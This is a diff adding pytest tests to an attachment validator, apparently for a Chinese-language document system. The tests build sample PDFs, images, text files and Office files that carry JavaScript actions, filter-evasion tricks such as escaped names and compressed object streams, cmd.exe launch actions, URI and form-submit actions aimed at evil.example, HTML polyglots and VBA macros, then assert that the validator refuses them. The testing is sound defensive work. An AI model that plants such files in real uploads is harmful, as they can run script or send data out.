@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import zipfile
+import zlib
 
 import pytest
 
@@ -167,3 +168,119 @@ def test_the_officer_is_told_in_chinese_which_limit_a_word_upload_hit(tmp_path, 
     assert not at.exception
     assert "「Word 文件」:段落超过 2 万个上限(第二十条)" in texts(at)
     assert not at.session_state["ma_body"]
+
+
+# --- L8 ------------------------------------------------------------------------------------
+
+ALLOWED = "pdf,doc,docx,xls,xlsx,ppt,pptx,wps,et,txt,zip,rar,jpg,jpeg,png,gif,ofd"
+
+
+def pdf(*objects: bytes, root: bytes = b"<< /Type /Catalog /Pages 2 0 R >>") -> bytes:
+    """A PDF of one blank page; `objects` are numbered from 4 on; `root` is the catalog."""
+    body = [root, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", *objects]
+    out = io.BytesIO()
+    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, item in enumerate(body, start=1):
+        offsets.append(out.tell())
+        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, item))
+    xref = out.tell()
+    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
+    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
+    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref))
+    return out.getvalue()
+
+
+def object_stream(number: int, item: bytes) -> bytes:
+    """A compressed object stream holding object `number`: what a raw look at the file cannot see."""
+    header = b"%d 0 " % number
+    packed = zlib.compress(header + item)
+    return (b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
+            % (len(header), len(packed))) + packed + b"\nendstream"
+
+
+def attachment_refused(filename: str, data: bytes) -> str:
+    with pytest.raises(ValidationError) as caught:
+        content.check_attachment(filename, data, ALLOWED, 20)
+    assert caught.value.field == "附件"
+    assert caught.value.article == "第二十条"
+    return caught.value.rule
+
+
+def pypdf_file(build) -> bytes:
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    build(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(("name", "data"), [
+    ("一页.pdf", pdf()),
+    ("打开即适合页面.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>")),
+    ("跳到第一页.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>")),
+    ("引用视图.pdf", pdf(b"[3 0 R /XYZ null null 0]", root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")),
+    ("pypdf.pdf", pypdf_file(lambda writer: None)),
+    ("禁止复制.pdf", pypdf_file(lambda writer: writer.encrypt("", "owner-secret"))),
+])
+def test_pdfs_without_active_content_are_accepted(name, data):
+    """L8: ordinary PDFs (an opening view, a copy-protected file) still upload."""
+    assert content.check_attachment(name, data, ALLOWED, 20) == "application/pdf"
+
+
+@pytest.mark.parametrize(("name", "data", "what"), [
+    ("打开即运行.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript "
+                              b"/JS (app.alert\\(1\\)) >> >>"), "JavaScript 脚本"),
+    ("名称树.pdf", pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
+                       root=b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript << /Names [(a) 4 0 R] >> >> >>"),
+     "JavaScript 脚本"),
+    ("转义名称.pdf", pdf(b"<< /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>",
+                         root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"), "JavaScript 脚本"),
+    ("藏在对象流.pdf", pdf(object_stream(5, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
+                          root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>"), "JavaScript 脚本"),
+    ("启动程序.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>"),
+     "启动外部程序的动作"),
+    ("附带文件.pdf", pypdf_file(lambda writer: writer.add_attachment("说明.exe", b"MZ")), "嵌入的文件"),
+    ("打开网址.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI "
+                            b"/URI (http://evil.example/) >> >>"), "打开文件时自动执行的动作"),
+    ("翻页动作.pdf", pdf(b"<< /S /GoTo /D [3 0 R /Fit] >>",
+                         root=b"<< /Type /Catalog /Pages 2 0 R /AA << /WC 4 0 R >> >>"), "打开、关闭或翻页时自动执行的动作"),
+    ("提交表单.pdf", pdf(root=b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /SubmitForm "
+                            b"/F (http://evil.example/) >> >>"), "提交表单数据的动作"),
+])
+def test_pdfs_with_active_content_are_refused(name, data, what):
+    """L8: a PDF with JavaScript, launch, embedded files or automatic actions is refused, naming what it holds."""
+    rule = attachment_refused(name, data)
+    assert rule == f"“{name}”含有{what},属于可自动运行的内容,不能上传;请用“另存为 PDF”或“打印为 PDF”重新生成后上传"
+
+
+POLYGLOT_PDF = b"<html><body><script>alert(document.cookie)</script></body></html>\n" + pdf()
+
+
+@pytest.mark.parametrize(("name", "data"), [
+    ("网页与PDF.pdf", POLYGLOT_PDF),
+    ("大写.pdf", b"%PDF-1.7\n%<SCRIPT>alert(1)</SCRIPT>\n" + pdf()[9:]),
+    ("图片.png", PNG[:33] + b"\x00\x00\x00\x2btEXtComment\x00<svg onload=alert(1)></svg>" + PNG[33:]),
+    ("动图.gif", b"GIF89a\x01\x00\x01\x00\x00\x00\x00<script>alert(1)</script>"),
+    ("说明.txt", "<!DOCTYPE html><p>通知</p><script>alert(1)</script>".encode()),
+    ("说明GBK.txt", "  <html>通知</html>".encode("gb18030")),
+])
+def test_files_that_are_also_web_pages_are_refused(name, data):
+    """L8: HTML/PDF polyglots and other files with web-page markup in their first kilobyte are refused."""
+    assert attachment_refused(name, data).startswith(f"“{name}”的开头含有网页代码(如 <html>、<script>)")
+
+
+def test_office_files_with_macros_are_refused():
+    """L8: a macro document renamed to .docx, and an old .doc with a VBA project, are refused."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", "<w:document/>")
+        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
+    assert "含有宏(VBA 代码)" in attachment_refused("方案.docx", out.getvalue())
+    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + "_VBA_PROJECT".encode("utf-16-le") + b"\x00" * 64
+    assert "含有宏(VBA 代码)" in attachment_refused("旧文档.doc", ole)
+    assert content.check_attachment("旧文档.doc", ole[:512], ALLOWED, 20) == "application/msword"
